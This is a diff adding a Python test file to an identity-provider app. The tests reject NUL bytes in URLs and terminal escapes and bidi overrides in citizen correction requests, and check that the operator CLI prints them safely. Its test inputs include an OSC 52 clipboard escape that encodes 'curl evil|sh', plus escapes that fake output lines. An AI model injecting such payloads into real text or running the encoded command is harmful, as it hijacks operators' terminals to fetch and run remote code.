@@ -1,0 +1,87 @@
+"""Findings of a review of the citizen alerts, register correction requests,
+raising the identity level, the page scan's portrait, session places and the
+consular booking confirmation, each with the test that fails without its fix."""
+from __future__ import annotations
+
+from click.testing import CliRunner
+from sqlalchemy import select
+
+from idp.cabinet.models import CorrectionRequest
+from oidc_helpers import csrf_from
+
+AZIZ = "31503901234567"
+PASSWORD = "demo-password-2026"
+
+
+def _login(app, pinfl=AZIZ, lang="en"):
+    client = app.test_client()
+    page = client.get(f"/login?lang={lang}").get_data(as_text=True)
+    response = client.post(f"/login?lang={lang}", data={"identifier": pinfl, "password": PASSWORD,
+                                                        "csrf_token": csrf_from(page)})
+    assert response.status_code == 302
+    return client
+
+
+def _submit(client, field, value, explanation="My passport says otherwise."):
+    token = csrf_from(client.get(f"/cabinet/corrections/new?field={field}&lang=en").get_data(as_text=True))
+    return client.post("/cabinet/corrections/new?lang=en",
+                       data={"csrf_token": token, "field": field, "value": value, "explanation": explanation})
+
+
+def _rows(idp):
+    with idp.db.transaction() as s:
+        rows = list(s.scalars(select(CorrectionRequest)))
+        s.expunge_all()
+        return rows
+
+
+def test_a_nul_byte_in_a_path_is_a_bad_request_not_a_database_error(app, demo):
+    """PostgreSQL text cannot hold NUL: an id or code from the path went to the
+    database as it was and the request failed with a 500."""
+    client = _login(app)
+    for url in ("/cabinet/corrections/%00", "/cabinet/corrections/%00/withdraw", "/consular/book/%00",
+                "/consular/book/%00/confirm", "/enroll/activate/%00"):
+        response = client.get(url) if not url.endswith("withdraw") else client.post(url)
+        assert response.status_code == 400, url
+
+
+def test_a_correction_request_refuses_terminal_escapes_and_bidi_overrides(app, idp, demo):
+    """Operators read the values and explanation in a terminal (idp cabinet
+    corrections show): escape sequences would act on it, and bidirectional
+    overrides reorder what it shows."""
+    client = _login(app)
+    for value, explanation in (("\x1b]52;c;Y3VybCBldmlsfHNo\x07Karimova", "My passport says so."),
+                               ("Karimov\u202eavomiraK", "My passport says so."),
+                               ("Karimova", "See my passport.\x1b[2J\x1b[Hstatus: done"),
+                               ("Karimova", "See my passport.\u2066 hidden \u2069")):
+        response = _submit(client, "family_name", value, explanation)
+        assert response.status_code == 400, (value, explanation)
+        assert "invisible control characters" in response.get_data(as_text=True)
+    assert _rows(idp) == []
+    response = _submit(client, "family_name", "Karimova", "My new passport\r\nshows\tKarimova.")
+    assert response.status_code == 302
+    assert [r.explanation for r in _rows(idp)] == ["My new passport\nshows\tKarimova."]
+
+
+def test_the_operator_command_shows_control_characters_as_escapes(app, idp, demo, monkeypatch):
+    """A request stored before the check (or by another way in) cannot act on
+    the operator's terminal, nor fake a line of the output."""
+    from idp.cli import main
+    from idp.db import utcnow
+    from idp.people.models import Account, Person
+
+    monkeypatch.setattr("idp.cabinet.cli.app_services", lambda: (app, idp))
+    with idp.db.transaction() as s:
+        account = s.scalars(select(Account).join(Person).where(Person.pinfl == AZIZ)).one()
+        row = CorrectionRequest(account_id=account.id, field="family_name", open_field="family_name",
+                                current_value="Karimov", requested_value="\x1b[31mKarimova\u202e",
+                                explanation="See it.\nstatus: done\x9b2J", status="submitted",
+                                created_at=utcnow(), updated_at=utcnow())
+        s.add(row)
+        s.flush()
+        request_id = row.id
+    result = CliRunner().invoke(main, ["cabinet", "corrections", "show", request_id])
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\u202e" not in result.output and "\x9b" not in result.output
+    assert "\\u001b[31mKarimova\\u202e" in result.output
+    assert "\nstatus: done" not in result.output and "\n  status: done\\u009b2J" in result.output
